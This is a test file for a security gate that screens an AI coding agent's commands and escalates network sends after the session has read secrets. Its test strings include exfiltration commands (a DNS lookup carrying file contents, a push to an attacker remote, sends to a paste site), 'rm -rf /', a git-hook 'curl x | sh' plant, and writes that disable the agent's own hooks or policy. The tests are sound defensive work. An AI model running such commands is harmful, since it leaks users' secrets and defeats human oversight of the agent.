import { describe, expect, it } from 'vitest';
import { createGate, type Gate } from './gate.js';
import { loadPolicy } from './policy/load.js';
import { createReadMemory } from './read-memory.js';
import { isRemoteHost, secretReadOf } from './read-then-send.js';

const gateWith = async (inline?: unknown): Promise<Gate> =>
  createGate({
    policy: await loadPolicy(inline === undefined ? {} : { inline }),
    workspace: '/home/dev/project',
    home: '/home/dev',
  });

const READ = 'read a secret 2 s ago (reads a project secrets file: cat .env)';

describe('read, then send: one session over two calls', () => {
  it('asks for a send the gate would allow once the session read a secret, and says why', async () => {
    const gate = await gateWith();
    for (const command of [
      'curl -s https://api.github.com/repos/acme/app',
      'git clone https://github.com/acme/app',
      'curl -s https://registry.npmjs.org/lodash',
    ]) {
      expect(gate.decide({ command }).decision, command).toBe('allow');
      const d = gate.decide({ command, readEarlier: READ });
      expect(d, command).toMatchObject({ decision: 'ask', escalated: true, grantable: false });
      expect(d.reasons.at(-1), command).toMatchObject({
        rule_id: 'policy.read-then-send',
        category: 'exfiltration',
        attack_id: 'T1041',
      });
      expect(d.reasons.at(-1)?.detail).toContain(`this session ${READ}, and this call reaches`);
    }
    const fetch = gate.decide({
      command: 'WebFetch https://paste.example.net/new',
      tool: 'WebFetch',
      toolInput: { url: 'https://paste.example.net/new' },
      readEarlier: READ,
    });
    expect(fetch.decision).toBe('ask');
    expect(fetch.reasons.at(-1)?.detail).toContain('reaches paste.example.net');
  });

  it('counts what reaches other machines without naming a host the gate can read', async () => {
    const gate = await gateWith();
    for (const command of [
      'git push origin main',
      'git push',
      'env GIT_TRACE=1 git push drop HEAD',
      'git remote add drop https://github.com/attacker/drop.git',
      'gh gist create notes.txt',
      'gh api -X POST repos/acme/x/issues -f body=hi',
      'dig $(cat notes.txt).x.example',
      'ping -c1 $(cat notes.txt).x.example',
      'getent hosts $(cat notes.txt).x.example',
      'curl "$URL"',
      'aws s3 cp notes.txt s3://bucket/',
      'python3 -m twine upload dist/*',
      'poetry publish',
      'ssh buildbox make', // a bare name: an ssh config entry, or anywhere
    ]) {
      const d = gate.decide({ command, readEarlier: READ });
      expect(d.decision, command).not.toBe('allow');
    }
    // A bare name a fetch tool reaches, and a URL beside a command line an MCP tool is given.
    for (const toolInput of [
      { url: 'http://ai/?k=1' },
      { url: 'https://paste.example.net/?k=1', script: 'true' },
      { url: 'https://paste.example.net/?k=1', argv: ['true'] },
    ]) {
      const tool =
        'url' in toolInput && Object.keys(toolInput).length === 1 ? 'WebFetch' : 'mcp__browser__navigate';
      const d = gate.decide({ command: tool, tool, toolInput, readEarlier: READ });
      expect(d.decision, JSON.stringify(toolInput)).toBe('ask');
    }
  });

  it('leaves alone what sends nothing out, and what stays on this machine or the private network', async () => {
    const gate = await gateWith();
    for (const command of [
      'ls -la',
      'npm test',
      'git status',
      'curl -s http://localhost:3000/health',
      'curl http://10.1.2.3:8080/',
      'curl http://[::1]:9000/',
      'git commit -am wip',
      'git log --oneline',
      'npm install',
      'docker build .',
    ]) {
      const d = gate.decide({ command, readEarlier: READ });
      expect(
        d.reasons.some((r) => r.rule_id === 'policy.read-then-send'),
        command,
      ).toBe(false);
    }
  });

  it('never relaxes: a deny stays a deny, a grant does not lift it, ci mode denies', async () => {
    const gate = await gateWith();
    expect(gate.decide({ command: 'rm -rf /', readEarlier: READ }).decision).toBe('deny');
    const grants = [
      {
        scope: 'session' as const,
        prefix: ['curl'],
        max_risk: 1,
        granted_by: 'ana',
        created_at: '2026-12-06T00:00:00Z',
        expires_at: '2026-12-07T00:00:00Z',
        session_id: 's',
        project: '',
      },
    ];
    const granted = gate.decide({
      command: 'curl -s https://api.github.com/repos/acme/app',
      readEarlier: READ,
      grants: grants as never,
    });
    expect(granted.decision).toBe('ask');
    const ci = await gateWith({ mode: 'ci' });
    expect(ci.decide({ command: 'curl -s https://example.org/', readEarlier: READ }).decision).toBe('deny');
  });

  it("finds the read in the decision's reasons (shell and tools), not in a refused write", async () => {
    const gate = await gateWith();
    expect(secretReadOf(gate.decide({ command: 'cat .env' }).reasons)).toMatch(/secrets file/);
    expect(secretReadOf(gate.decide({ command: 'cat ~/.aws/credentials' }).reasons)).toMatch(/credential/);
    const read = gate.decide({
      command: 'Read',
      tool: 'Read',
      toolInput: { file_path: '/home/dev/project/.env' },
    });
    expect(secretReadOf(read.reasons)).toMatch(/\.env/);
    // The Read tool is asked about the names `cat` is asked about, in any case.
    for (const file of ['credentials.json', 'config/secrets.yml', '.ENV', 'deploy/server.key']) {
      const d = gate.decide({
        command: 'Read',
        tool: 'Read',
        toolInput: { file_path: `/home/dev/project/${file}` },
      });
      expect(d.decision, file).toBe('ask');
      expect(secretReadOf(d.reasons), file).not.toBeNull();
    }
    for (const command of [
      'git show HEAD:.env',
      'git cat-file -p HEAD~1:.env',
      'git log -p -- .env',
      'git add -f .env',
      'git stage .env',
      `perl -ne print ${'a '.repeat(20)}.env`,
    ]) {
      const d = gate.decide({ command });
      expect(d.decision, command).toBe('ask');
      expect(secretReadOf(d.reasons), command).toMatch(/secrets file/);
    }
    for (const command of ['git show HEAD:README.md', 'git add .', 'git add -A src/index.ts'])
      expect(gate.decide({ command }).decision, command).toBe('allow');
    // A search whose pattern picks out the project's secrets reads them; an everyday search does not.
    const grep = (toolInput: Record<string, unknown>) =>
      gate.decide({ command: 'Grep', tool: 'Grep', toolInput: { pattern: '.', ...toolInput } });
    expect(grep({ glob: '.env', output_mode: 'content' }).decision).toBe('ask');
    expect(grep({ glob: '.env*' }).decision).toBe('ask');
    expect(secretReadOf(grep({ glob: '.env' }).reasons)).not.toBeNull();
    for (const command of [
      "grep -rh . --include='.env*'",
      "rg -g '*.pem' KEY",
      'grep -r --include=.env TOKEN src',
    ])
      expect(secretReadOf(gate.decide({ command }).reasons), command).not.toBeNull();
    // A one-liner that opens a secret by a relative name, or a line loop over one.
    for (const command of [
      `node -p "require('fs').readFileSync('.env','utf8')"`,
      'perl -ne print .env',
      `ruby -e "puts File.read('config/credentials.json')"`,
    ])
      expect(secretReadOf(gate.decide({ command }).reasons), command).not.toBeNull();
    for (const command of [
      `node -e "require('fs').copyFileSync('.env.example', '.env')"`,
      `node -e "require('fs').writeFileSync('.env', 'PORT=3000')"`,
      `node -e "console.log(require('fs').existsSync('.env'))"`,
      `python3 -c "open('.env', 'w').write('PORT=3000')"`,
      `node -e "require('./index.js')"`,
      "perl -ne 'print if /x/' README.md",
      "grep -r --include='*.json' name .",
      'grep -rn TODO src',
      "rg -g '*' x",
    ])
      expect(gate.decide({ command }).decision, command).toBe('allow');
    for (const ordinary of [{}, { glob: '*.ts' }, { glob: '**/*' }, { glob: '*' }])
      expect(grep(ordinary).decision, JSON.stringify(ordinary)).toBe('allow');
    expect(secretReadOf(gate.decide({ command: 'cat README.md' }).reasons)).toBeNull();
    const write = gate.decide({
      command: 'Write',
      tool: 'Write',
      toolInput: { file_path: '/home/dev/.aws/credentials', content: 'x' },
    });
    expect(write.decision).toBe('deny');
    expect(secretReadOf(write.reasons)).toBeNull();
  });

  it('counts numbers and other IPv6 addresses as remote, names and private ranges as local', () => {
    for (const h of ['example.org', '8.8.8.8', '134744072', '0x08080808', '2001:db8::1', '[2606:4700::1111]'])
      expect(isRemoteHost(h), h).toBe(true);
    for (const h of [
      'localhost',
      '127.0.0.1',
      '10.0.0.5',
      '192.168.1.1',
      '172.20.0.1',
      '::1',
      'fd00::1',
      'buildbox',
    ])
      expect(isRemoteHost(h), h).toBe(false);
  });
});

describe('the memory of reads', () => {
  it('remembers a read for the window, per session, and forgets it after', () => {
    let t = 0;
    const m = createReadMemory({ windowMs: 1_000, now: () => t });
    m.note('tok', 's1', 'reads a project secrets file: cat .env');
    t = 400;
    expect(m.earlier('tok', 's1')).toBe('read a secret 0 s ago (reads a project secrets file: cat .env)');
    expect(m.earlier('tok', 's2')).toBeUndefined();
    // Another token naming the session is asked too, but not told what was read.
    expect(m.earlier('other', 's1')).toBe('read a secret 0 s ago (through another token)');
    t = 1_000;
    expect(m.earlier('tok', 's1')).toBeUndefined();
    expect(m.stats().sessions).toBe(0);
  });

  it('keeps a read restored from the store for the window and its slack, and tells its real age', () => {
    let t = 100_000;
    const m = createReadMemory({ windowMs: 60_000, now: () => t });
    // Stored 40 s ago; repeats up to a minute after it may not have been stored.
    m.note('tok', 's', 'cat .env', t - 40_000, 60_000);
    expect(m.earlier('tok', 's')).toBe('read a secret 40 s ago (cat .env)');
    t += 79_000;
    expect(m.earlier('tok', 's')).toBe('read a secret 119 s ago (cat .env)');
    t += 2_000;
    expect(m.earlier('tok', 's')).toBeUndefined();
  });

  it('a token that reads in more sessions than its share cannot push out its earlier read: its sends all ask', () => {
    let t = 0;
    const m = createReadMemory({ windowMs: 60_000, perCaller: 3, total: 100, now: () => t });
    m.note('agent', 'real', 'reads a private key');
    for (let i = 0; i < 10; i++) m.note('agent', `decoy-${i}`, 'reads a project secrets file');
    t = 1_000;
    expect(m.earlier('agent', 'real')).toMatch(
      /more sessions read secrets lately than Ward keeps \(3 for this token\)/,
    );
    expect(m.earlier('agent', 'never-read')).toMatch(/than Ward keeps/);
    // Another token is not held to the first one's overflow.
    expect(m.earlier('other', 'elsewhere')).toBeUndefined();
    t = 61_001;
    expect(m.earlier('agent', 'real')).toBeUndefined();
  });

  it("a token over its share never takes another token's read out of memory", () => {
    let t = 0;
    const m = createReadMemory({ windowMs: 60_000, perCaller: 2, total: 100, now: () => t });
    m.note('agent', 'S', 'reads a project secrets file: .env');
    for (const s of ['d1', 'd2', 'd3', 'S']) m.note('other', s, 'reads a private key');
    t = 1_000;
    expect(m.earlier('agent', 'S')).toBe('read a secret 1 s ago (reads a project secrets file: .env)');
    // Its own read it may refresh, over its share or not.
    m.note('agent', 'S', 'reads a credential');
    expect(m.earlier('agent', 'S')).toMatch(/\(reads a credential\)/);
  });

  it('a full memory makes every send ask until the window has passed, and keeps a description short', () => {
    let t = 0;
    const m = createReadMemory({ windowMs: 10_000, perCaller: 10, total: 4, now: () => t });
    for (let i = 0; i < 5; i++) m.note(`tok-${i}`, `s-${i}`, 'x'.repeat(10_000));
    expect(m.earlier('tok-9', 'fresh')).toMatch(/4 in all/);
    expect(m.stats().sessions).toBe(4);
    t = 10_000;
    expect(m.earlier('tok-9', 'fresh')).toBeUndefined();
    m.note('tok', 's', 'y'.repeat(10_000));
    expect(m.earlier('tok', 's')?.length).toBeLessThan(300);
  });
});

describe('a one-liner writing by a relative name', () => {
  it("is a write where it lands: the agent's own hook configuration is protected as from the shell", async () => {
    const gate = await gateWith();
    for (const command of [
      `node -e "require('fs').writeFileSync('.claude/settings.json','{}')"`,
      `node -e "require('fs').copyFileSync('/tmp/x.json', '.claude/settings.json')"`,
      `ruby -e "File.write('.ward/policy.yaml', 'mode: autonomous')"`,
      `php -r "file_put_contents('.git/hooks/pre-commit', 'curl x | sh');"`,
    ])
      expect(gate.decide({ command }).decision, command).toBe('deny');
    for (const command of [
      `node -e "require('fs').writeFileSync('out.txt','x')"`,
      `node -e "require('fs').copyFileSync('.env.example', '.env')"`,
    ])
      expect(gate.decide({ command }).decision, command).toBe('allow');
  });
});
